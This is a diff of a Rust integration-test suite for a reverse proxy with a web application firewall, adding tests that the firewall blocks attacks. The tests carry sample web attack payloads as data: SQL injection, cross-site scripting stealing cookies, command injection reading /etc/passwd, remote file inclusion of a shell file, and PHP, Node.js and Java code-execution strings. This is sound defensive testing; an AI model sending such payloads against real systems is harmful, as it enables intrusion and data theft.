@@ -107,13 +107,13 @@ struct EdgeProcess {
 
 impl EdgeProcess {
     /// `config` is TOML for everything but the listeners and the state file.
-    fn start(config: &str) -> Self {
-        Self::start_on(config, pola_core::testing::free_port())
+    async fn start(config: &str) -> Self {
+        Self::start_on(config, pola_core::testing::free_port()).await
     }
 
     /// The same, its public listener on `public` (known beforehand, as a payment gateway's
     /// notify URL needs it).
-    fn start_on(config: &str, public: u16) -> Self {
+    async fn start_on(config: &str, public: u16) -> Self {
         let dir = std::env::temp_dir().join(format!("pola-edge-test-{}", uuid::Uuid::now_v7().simple()));
         std::fs::create_dir_all(&dir).expect("a folder");
         let (staff, admin) = (pola_core::testing::free_port(), pola_core::testing::free_port());
@@ -130,7 +130,7 @@ impl EdgeProcess {
             staff: format!("http://127.0.0.1:{staff}"),
             admin: format!("http://127.0.0.1:{admin}"),
         };
-        edge.restart();
+        edge.restart().await;
         edge
     }
 
@@ -144,7 +144,7 @@ impl EdgeProcess {
         command
     }
 
-    fn restart(&mut self) {
+    async fn restart(&mut self) {
         self.stop();
         let log = std::fs::File::create(self.dir.join("edge.log")).expect("a log file");
         let child = self
@@ -161,7 +161,7 @@ impl EdgeProcess {
             if ready {
                 return;
             }
-            std::thread::sleep(Duration::from_millis(50));
+            tokio::time::sleep(Duration::from_millis(50)).await;
         }
         panic!("pola-edge did not start: {}", self.log());
     }
@@ -175,13 +175,13 @@ impl EdgeProcess {
 
     /// Whether `needle` shows in the log within a few seconds (lines are written after the
     /// response).
-    fn wait_for_log(&self, needle: &str) -> bool {
+    async fn wait_for_log(&self, needle: &str) -> bool {
         let deadline = Instant::now() + Duration::from_secs(5);
         while Instant::now() < deadline {
             if self.log().contains(needle) {
                 return true;
             }
-            std::thread::sleep(Duration::from_millis(50));
+            tokio::time::sleep(Duration::from_millis(50)).await;
         }
         false
     }
@@ -274,7 +274,8 @@ async fn requests_are_routed_by_prefix_with_request_ids_trace_context_and_securi
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n{}",
         pools(&[("main", "/", &[&main], &[]), ("orders", "/api/v1/orders", &[&orders], &[])])
-    ));
+    ))
+    .await;
 
     let (status, headers, body) = get(&format!("{}/api/v1/orders/42", edge.public)).await;
     assert_eq!(
@@ -317,7 +318,7 @@ async fn requests_are_routed_by_prefix_with_request_ids_trace_context_and_securi
     );
     assert_ne!(sent.parent_id, "00f067aa0ba902b7", "under the edge's span");
     assert!(sent.sampled, "as sampled as the client said");
-    assert!(edge.wait_for_log("\"path\":\"/x\""), "an access log line per request");
+    assert!(edge.wait_for_log("\"path\":\"/x\"").await, "an access log line per request");
 }
 
 #[tokio::test]
@@ -330,7 +331,8 @@ async fn the_edge_samples_the_traces_it_starts_as_configured_and_a_callers_choic
         let edge = EdgeProcess::start(&format!(
             "{SITE}\n[apm]\nstatements_percent = {percent}\n\n{}",
             pools(&[("main", "/", &[&main], &[])])
-        ));
+        ))
+        .await;
         let (_, _, body) = get(&format!("{}/x", edge.public)).await;
         assert_eq!(sent(&body).sampled, sampled, "a trace the edge starts at {percent}%");
         let caller = pola_apm::TraceParent {
@@ -361,7 +363,8 @@ async fn the_staff_listener_serves_only_the_vpn_and_staff_paths_are_not_public()
     let outside = EdgeProcess::start(&format!(
         "{SHOP_SITE}\n[staff]\nvpn_ranges = [\"10.8.0.0/16\"]\n\n{}",
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let (status, headers, body) = get(&format!("{}/api/v1/identity/staff/customers", outside.staff)).await;
     assert_eq!(status, 403);
     assert_eq!(headers["content-type"], "application/problem+json");
@@ -398,7 +401,8 @@ async fn the_staff_listener_serves_only_the_vpn_and_staff_paths_are_not_public()
     let inside = EdgeProcess::start(&format!(
         "{SITE}\n[staff]\nvpn_ranges = [\"10.8.0.0/16\", \"127.0.0.0/8\"]\n\n{}",
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let (status, _, body) = get(&format!("{}/api/v1/identity/staff/customers", inside.staff)).await;
     assert_eq!((status, &body["upstream"]), (200, &json!("main")));
 }
@@ -409,7 +413,8 @@ async fn rate_and_body_limits_answer_429_and_413() {
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n[limits]\nper_ip_per_sec = 1000\nper_token_per_sec = 5\nauth_per_ip_per_min = 3\nbody_bytes = 1000\n\n{}",
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let mut statuses = vec![];
     for _ in 0..5 {
         let response = client()
@@ -426,17 +431,28 @@ async fn rate_and_body_limits_answer_429_and_413() {
     }
     assert_eq!(statuses, [200, 200, 200, 429, 429], "sign-in attempts are limited per minute");
 
-    let mut limited = 0;
-    for _ in 0..20 {
-        let response = client()
+    // Twenty at once from one token: whatever the machine's pace, no more than 5 a second pass
+    // (the limiter counts whole seconds, so a burst that straddles n of them passes 5 × n).
+    let started = std::time::Instant::now();
+    let answers = futures_util::future::join_all((0..20).map(|_| {
+        client()
             .get(format!("{}/api/v1/cart", edge.public))
             .bearer_auth("a-token")
             .send()
-            .await
-            .expect("an answer");
-        limited += u32::from(response.status() == 429);
-    }
-    assert!(limited >= 10, "one token is limited to 5 a second: {limited} of 20 refused");
+    }))
+    .await;
+    let seconds = u32::try_from(started.elapsed().as_secs())
+        .unwrap_or(u32::MAX)
+        .saturating_add(2);
+    let passed = answers
+        .iter()
+        .filter(|a| a.as_ref().expect("an answer").status() != 429)
+        .count();
+    let passed = u32::try_from(passed).expect("a count");
+    assert!(
+        passed <= 5 * seconds,
+        "one token is limited to 5 a second: {passed} of 20 passed within {seconds} s"
+    );
 
     let big = client()
         .post(format!("{}/upload", edge.public))
@@ -528,7 +544,8 @@ async fn one_of_two_members_killed_under_steady_load_fails_no_request_and_rejoin
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n{UNLIMITED}\n{}",
         pools(&[("main", "/", &[&one, &two], &[])])
-    ));
+    ))
+    .await;
     let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
     let load = tokio::spawn(steady(format!("{}/api/v1/steady", edge.public), stop.clone()));
     tokio::time::sleep(Duration::from_millis(500)).await;
@@ -553,7 +570,7 @@ async fn one_of_two_members_killed_under_steady_load_fails_no_request_and_rejoin
 #[tokio::test]
 async fn the_whole_dc_pool_killed_moves_traffic_to_dr_which_stays_until_an_operator_moves_it_back() {
     let (mut dc, dr) = (Upstream::start("dc"), Upstream::start("dr"));
-    let mut edge = EdgeProcess::start(&format!("{SITE}\n{UNLIMITED}\n{}", pools(&[("main", "/", &[&dc], &[&dr])])));
+    let mut edge = EdgeProcess::start(&format!("{SITE}\n{UNLIMITED}\n{}", pools(&[("main", "/", &[&dc], &[&dr])]))).await;
     let url = format!("{}/api/v1/orders/42", edge.public);
     assert_eq!(get(&url).await.2["upstream"], "dc");
 
@@ -582,13 +599,22 @@ async fn the_whole_dc_pool_killed_moves_traffic_to_dr_which_stays_until_an_opera
     edge.cli(&["site", "activate", "dc"]);
     assert_eq!(get(&url).await.2["upstream"], "dc");
     edge.cli(&["site", "activate", "dr"]);
-    edge.restart();
+    edge.restart().await;
     assert_eq!(get(&url).await.2["upstream"], "dr", "the choice survives a restart");
     let metrics = edge.metrics().await;
     assert!(metrics.contains("edge_active_site_dr 1"), "{metrics}");
 }
 
 const WAF_OFF_LIMITS: &str = "[limits]\nper_ip_per_sec = 1000000\nper_token_per_sec = 1000000\nauth_per_ip_per_min = 1000000\n";
+
+/// An edge with its WAF on and its limits out of the way, in front of `main` for every path.
+async fn waf_front(main: &Upstream) -> EdgeProcess {
+    EdgeProcess::start(&format!(
+        "{SITE}\n{WAF_OFF_LIMITS}\n{}",
+        pools(&[("main", "/", &[main], &[])])
+    ))
+    .await
+}
 
 /// Sends `request` and returns the status and the problem's request id.
 async fn status_of(request: reqwest::RequestBuilder) -> (u16, String) {
@@ -598,13 +624,126 @@ async fn status_of(request: reqwest::RequestBuilder) -> (u16, String) {
     (status, body["request_id"].as_str().unwrap_or("").to_owned())
 }
 
+/// One attack of each family of the OWASP Core Rule Set's rules (3.3, paranoia level 1), as a
+/// client would send it: each is refused with 403 before an upstream sees it, and its audit line
+/// names a rule of its family. Run before and after any change to how the edge inspects.
+#[tokio::test]
+async fn an_attack_of_every_crs_rule_family_is_blocked_by_a_rule_of_that_family() {
+    let main = Upstream::start("main");
+    let edge = waf_front(&main).await;
+    let url = |path: &str| format!("{}{path}", edge.public);
+    let client = client();
+    let list = "/api/v1/catalog/products";
+    let attacks: Vec<(&str, &str, reqwest::RequestBuilder)> = vec![
+        (
+            "913",
+            "a security scanner",
+            client
+                .get(url(list))
+                .header("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
+        ),
+        (
+            "920",
+            "a NUL byte in an argument",
+            client.get(url(&format!("{list}?q=tea%00.php"))),
+        ),
+        (
+            "921",
+            "HTTP response splitting",
+            client.get(url(&format!("{list}?q=%0d%0aSet-Cookie:%20session=stolen"))),
+        ),
+        (
+            "930",
+            "local file inclusion",
+            client.get(url(&format!("{list}?file=../../../../etc/passwd"))),
+        ),
+        (
+            "931",
+            "remote file inclusion",
+            client.get(url(&format!("{list}?page=http://203.0.113.7/shell.txt?"))),
+        ),
+        (
+            "932",
+            "a Unix command",
+            client.get(url(&format!("{list}?q=;cat%20/etc/passwd"))),
+        ),
+        (
+            "933",
+            "PHP code",
+            client.get(url(&format!("{list}?q=%3C%3Fphp%20system(%27id%27);%20%3F%3E"))),
+        ),
+        (
+            "934",
+            "Node.js code",
+            client
+                .post(url("/api/v1/support/tickets"))
+                .json(&json!({"message": "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"})),
+        ),
+        (
+            "941",
+            "cross-site scripting",
+            client.get(url(&format!("{list}?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"))),
+        ),
+        (
+            "942",
+            "SQL injection",
+            client.get(url(&format!(
+                "{list}?q=1%27%20UNION%20SELECT%20password%20FROM%20customers--"
+            ))),
+        ),
+        (
+            "943",
+            "session fixation",
+            client.get(url(&format!(
+                "{list}?q=%3Cmeta%20http-equiv=Set-Cookie%20content=%22PHPSESSID=stolen%22%3E"
+            ))),
+        ),
+        (
+            "944",
+            "Java deserialisation",
+            client.get(url(&format!("{list}?q=java.lang.Runtime.getRuntime().exec(%22id%22)"))),
+        ),
+    ];
+    let mut missed = vec![];
+    for (family, what, attack) in attacks {
+        let (status, request_id) = status_of(attack).await;
+        // The access line is written once the answer is out: wait for it.
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        let line = loop {
+            let found = edge
+                .log()
+                .lines()
+                .find(|l| l.contains("\"target\":\"access\"") && l.contains(&format!("\"request_id\":\"{request_id}\"")))
+                .map(str::to_owned);
+            match found {
+                Some(line) => break line,
+                None if std::time::Instant::now() < deadline => tokio::time::sleep(Duration::from_millis(20)).await,
+                None => panic!("{family} {what}: no access line for {request_id}"),
+            }
+        };
+        let rules: Vec<&str> = line
+            .split("\"waf_rules\":\"")
+            .nth(1)
+            .and_then(|rest| rest.split('"').next())
+            .map(|r| r.split(',').collect())
+            .unwrap_or_default();
+        println!("{family} {what}: {status}, rules {rules:?}");
+        if status != 403 || !rules.iter().any(|r| r.starts_with(family)) {
+            missed.push(format!("{family} {what}: {status} {rules:?}"));
+        }
+    }
+    assert!(
+        missed.is_empty(),
+        "not refused by a rule of their family:\n{}",
+        missed.join("\n")
+    );
+    assert_eq!(main.seen.load(Ordering::Relaxed), 0, "no attack reached an upstream");
+}
+
 #[tokio::test]
 async fn attacks_in_the_query_headers_cookies_and_bodies_are_blocked_before_they_reach_an_upstream() {
     let main = Upstream::start("main");
-    let edge = EdgeProcess::start(&format!(
-        "{SITE}\n{WAF_OFF_LIMITS}\n{}",
-        pools(&[("main", "/", &[&main], &[])])
-    ));
+    let edge = waf_front(&main).await;
     let url = |path: &str| format!("{}{path}", edge.public);
     let client = client();
     let probes: Vec<(&str, reqwest::RequestBuilder)> = vec![
@@ -709,7 +848,8 @@ async fn detection_only_mode_logs_what_it_would_block_and_blocks_nothing() {
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n[waf]\nmode = \"detection_only\"\n\n{}",
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let (status, _) = status_of(client().get(format!(
         "{}/api/v1/catalog/products?q=1%27%20OR%20%271%27%3D%271",
         edge.public
@@ -737,7 +877,8 @@ async fn custom_rules_and_exclusions_come_from_files_and_reload_without_a_restar
         custom.display(),
         exclusions.display(),
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let get = |query: &str| status_of(client().get(format!("{}/api/v1/catalog/products?{query}", edge.public)));
     assert_eq!(get("coupon=FREEPOLA").await.0, 403);
     assert_eq!(get("comment=1%27%20OR%20%271%27%3D%271").await.0, 403);
@@ -907,18 +1048,18 @@ impl PolaServe {
     }
 
     /// An edge in front of it, with the shop's own allow-list on the public listener.
-    fn edge(&self) -> EdgeProcess {
-        self.edge_on(pola_core::testing::free_port())
+    async fn edge(&self) -> EdgeProcess {
+        self.edge_on(pola_core::testing::free_port()).await
     }
 
-    fn edge_on(&self, public: u16) -> EdgeProcess {
+    async fn edge_on(&self, public: u16) -> EdgeProcess {
         EdgeProcess::start_on(
             &format!(
                 "{SHOP_SITE}\n[staff]\nvpn_ranges = [\"127.0.0.0/8\"]\n\n[[pools]]\nname = \"pola\"\nprefixes = [\"/\"]\ndc = [\"127.0.0.1:{}\"]\n",
                 self.port
             ),
             public,
-        )
+        ).await
     }
 }
 
@@ -965,7 +1106,7 @@ async fn the_readme_tour_and_the_staff_tour_pass_through_the_edge_and_its_waf_wi
         ],
     )
     .await;
-    let edge = pola.edge_on(public);
+    let edge = pola.edge_on(public).await;
     let script = format!(
         "{}\n{}",
         pola_core::testing::readme_block("## A five-minute tour"),
@@ -1038,7 +1179,7 @@ fn served(status: u16, body: &Value) -> bool {
 #[tokio::test]
 async fn every_staff_route_of_the_openapi_description_is_404_on_the_public_listener_and_served_on_the_staff_listener() {
     let pola = PolaServe::start(20).await;
-    let edge = pola.edge();
+    let edge = pola.edge().await;
     let http = client();
     let sign_in = |base: &str, path: &str, username: &str, password: &str| {
         http.post(format!("{base}{path}"))
@@ -1183,7 +1324,8 @@ async fn with_a_certificate_the_listeners_speak_https_plain_http_is_redirected_a
         cert.display(),
         key.display(),
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let port = edge.public.rsplit(':').next().expect("a port").to_owned();
     pola_core::install_crypto_provider();
     let client = reqwest::Client::builder()
@@ -1228,7 +1370,8 @@ async fn least_connections_sends_most_requests_to_the_member_that_keeps_up() {
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n{UNLIMITED}\n{}balance = \"least_connections\"\n",
         pools(&[("main", "/", &[&slow, &fast], &[])])
-    ));
+    ))
+    .await;
     let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
     let load = tokio::spawn(steady(format!("{}/api/v1/steady", edge.public), stop.clone()));
     tokio::time::sleep(Duration::from_millis(1500)).await;
@@ -1246,7 +1389,8 @@ async fn a_client_that_stalls_in_its_body_is_cut_off_with_408() {
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n[limits]\nbody_read_timeout_ms = 300\n\n{}",
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let addr = edge.public.trim_start_matches("http://").to_owned();
     let answer = tokio::task::spawn_blocking(move || {
         use std::io::{Read, Write};
@@ -1273,7 +1417,8 @@ async fn a_client_that_dribbles_its_headers_is_disconnected_and_an_idle_keep_ali
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n[limits]\nheader_read_timeout_ms = 800\n\n{}",
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let addr = edge.public.trim_start_matches("http://").to_owned();
     let dribbled = addr.clone();
     // Slowloris: a header line every 100 ms, each read well inside Pingora's own per-read limit.
@@ -1295,7 +1440,7 @@ async fn a_client_that_dribbles_its_headers_is_disconnected_and_an_idle_keep_ali
     .await
     .expect("ran");
     assert!(lines_sent < 100, "the edge never closed the connection");
-    assert!(edge.wait_for_log("did not arrive in time"));
+    assert!(edge.wait_for_log("did not arrive in time").await);
 
     // A kept-alive connection idle for longer than the header timeout still serves the next
     // request: the clock starts at a request's first byte.
@@ -1345,7 +1490,8 @@ async fn anonymous_catalogue_reads_are_served_from_the_micro_cache_for_its_ttl()
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n{UNLIMITED}\n[staff]\nvpn_ranges = [\"127.0.0.0/8\"]\n\n[cache]\nttl_ms = 1500\n\n{}",
         pools(&[("main", "/", &[&main], &[])])
-    ));
+    ))
+    .await;
     let seen = || main.seen.load(Ordering::Relaxed);
     let page = format!("{}/api/v1/catalog/products?limit=3", edge.public);
 
@@ -1417,12 +1563,12 @@ async fn anonymous_catalogue_reads_are_served_from_the_micro_cache_for_its_ttl()
     assert!(metrics.contains("edge_cache_lookups_total{result=\"hit\"}"), "{metrics}");
 }
 
-/// Pingora's parser answers 400 to what breaks HTTP/1.1's framing and syntax; the CRS refuses
-/// the rest (NUL bytes, bodies on GETs) with 403.
+/// Pingora's parser answers 400 to what breaks HTTP/1.1's framing and syntax (written as a
+/// problem, like every refusal); the CRS refuses the rest (NUL bytes, bodies on GETs) with 403.
 #[tokio::test]
 async fn requests_that_break_the_protocol_are_refused_before_an_upstream_sees_them() {
     let main = Upstream::start("main");
-    let edge = EdgeProcess::start(&format!("{SITE}\n{}", pools(&[("main", "/", &[&main], &[])])));
+    let edge = EdgeProcess::start(&format!("{SITE}\n{}", pools(&[("main", "/", &[&main], &[])]))).await;
     let addr = edge.public.trim_start_matches("http://").to_owned();
     // The answer; with `whole`, everything until the edge closes the connection.
     let exchange = |bytes: &'static [u8], whole: bool| {
@@ -1498,8 +1644,90 @@ async fn requests_that_break_the_protocol_are_refused_before_an_upstream_sees_th
             answer.is_empty() || answer.starts_with("HTTP/1.1 400") || answer.starts_with("HTTP/1.1 403"),
             "{what}: {answer}"
         );
+        // Pingora's own refusals too are problems, with the id to quote.
+        if !answer.is_empty() {
+            let lower = answer.to_ascii_lowercase();
+            assert!(lower.contains("content-type: application/problem+json"), "{what}: {answer}");
+            assert!(
+                lower.contains("x-request-id: ") && answer.contains("\"request_id\""),
+                "{what}: {answer}"
+            );
+            assert!(!lower.contains("server: pingora"), "{what}: {answer}");
+        }
     }
     assert_eq!(main.seen.load(Ordering::Relaxed), smuggler, "no probe reached the upstream");
+}
+
+/// Multipart bodies that ModSecurity's strict multipart check refuses (rules 200003 and 200004
+/// of its recommended configuration, as nginx + ModSecurity runs them) are refused before an
+/// upstream sees them; a well-formed upload passes.
+#[tokio::test]
+async fn multipart_bodies_that_fail_strict_validation_are_refused() {
+    let main = Upstream::start("main");
+    let edge = EdgeProcess::start(&format!("{SITE}\n{}", pools(&[("main", "/", &[&main], &[])]))).await;
+    let url = format!("{}/api/v1/support/tickets", edge.public);
+    let send = |content_type: &'static str, body: &'static str| {
+        let request = client().post(&url).header("content-type", content_type).body(body);
+        async move { request.send().await.expect("an answer") }
+    };
+    let form = "multipart/form-data; boundary=XyZ";
+    let good = "--XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nBlue batik\r\n--XyZ--\r\n";
+    assert_eq!(send(form, good).await.status(), 200, "a well-formed form passes");
+    let seen = main.seen.load(Ordering::Relaxed);
+    let refused = [
+        (
+            "data before the first boundary",
+            form,
+            "hello\r\n--XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx\r\n--XyZ--\r\n",
+        ),
+        (
+            "data after the last boundary",
+            form,
+            "--XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx\r\n--XyZ--\r\nhello",
+        ),
+        (
+            "bare LF line endings",
+            form,
+            "--XyZ\nContent-Disposition: form-data; name=\"alt\"\n\nx\n--XyZ--\n",
+        ),
+        (
+            "a missing semicolon",
+            form,
+            "--XyZ\r\nContent-Disposition: form-data name=\"alt\"\r\n\r\nx\r\n--XyZ--\r\n",
+        ),
+        (
+            "a boundary quoted with whitespace",
+            "multipart/form-data; boundary=\" XyZ\"",
+            "-- XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx\r\n-- XyZ--\r\n",
+        ),
+        (
+            "a header folded over two lines",
+            form,
+            "--XyZ\r\nContent-Disposition: form-data;\r\n name=\"alt\"\r\n\r\nx\r\n--XyZ--\r\n",
+        ),
+        (
+            "no final boundary",
+            form,
+            "--XyZ\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nx\r\n",
+        ),
+    ];
+    for (what, content_type, body) in refused {
+        let answer = send(content_type, body).await;
+        let status = answer.status().as_u16();
+        let kind = answer.headers().get("content-type").cloned();
+        println!("{what}: {status}");
+        assert!(matches!(status, 400 | 403), "{what}: {status}");
+        assert_eq!(
+            kind.as_ref().and_then(|v| v.to_str().ok()),
+            Some("application/problem+json"),
+            "{what}"
+        );
+    }
+    assert_eq!(
+        main.seen.load(Ordering::Relaxed),
+        seen,
+        "no refused form reached the upstream"
+    );
 }
 
 /// The edge's admin `/status`.
@@ -1532,7 +1760,8 @@ async fn a_thousand_sign_ins_at_once_from_a_thousand_addresses_are_bounded_shed_
         "[site]\nstate_file = \"STATE_FILE\"\ncheck_interval_ms = 1000\nfailure_threshold = 3\n\n\
          [[pools]]\nname = \"pola\"\nprefixes = [\"/\"]\ndc = [\"127.0.0.1:{}\"]\ndr = [\"{}\"]\n",
         pola.port, dr.addr
-    ));
+    ))
+    .await;
     let registered = client()
         .post(format!("{}/api/v1/identity/register", edge.public))
         .json(&json!({"email": "target@example.lk", "password": "the right passphrase", "name": "Target"}))
@@ -1598,7 +1827,8 @@ async fn with_dcs_app_killed_and_its_database_primary_reads_go_to_dr_and_come_ba
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n{UNLIMITED}\n[[pools]]\nname = \"pola\"\nprefixes = [\"/\"]\ndc = [\"127.0.0.1:{}\"]\ndr = [\"{}\"]\n",
         pola.port, dr.addr
-    ));
+    ))
+    .await;
     let url = format!("{}/api/v1/catalog/categories", edge.public);
     let served_by_dr = |body: &Value| body["upstream"] == "dr";
     assert!(!served_by_dr(&get(&url).await.2), "DC serves first");
@@ -1703,7 +1933,8 @@ async fn a_member_dying_before_it_answers_is_retried_elsewhere_only_when_a_secon
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n{UNLIMITED}\n[[pools]]\nname = \"main\"\nprefixes = [\"/\"]\ndc = [\"{}\", \"{}\"]\n",
         dying.addr, good.addr
-    ));
+    ))
+    .await;
     let http = client();
     let deadline = Instant::now() + Duration::from_secs(10);
     while edge_status(&edge).await["pools"][0]["members"]
@@ -1773,7 +2004,8 @@ async fn when_no_member_of_the_active_site_can_be_reached_the_answer_is_503_with
     drop(nobody);
     let edge = EdgeProcess::start(&format!(
         "{SITE}\n[[pools]]\nname = \"main\"\nprefixes = [\"/\"]\ndc = [\"{addr}\"]\n"
-    ));
+    ))
+    .await;
     for request in [
         client().get(format!("{}/api/v1/catalog/products", edge.public)),
         client()
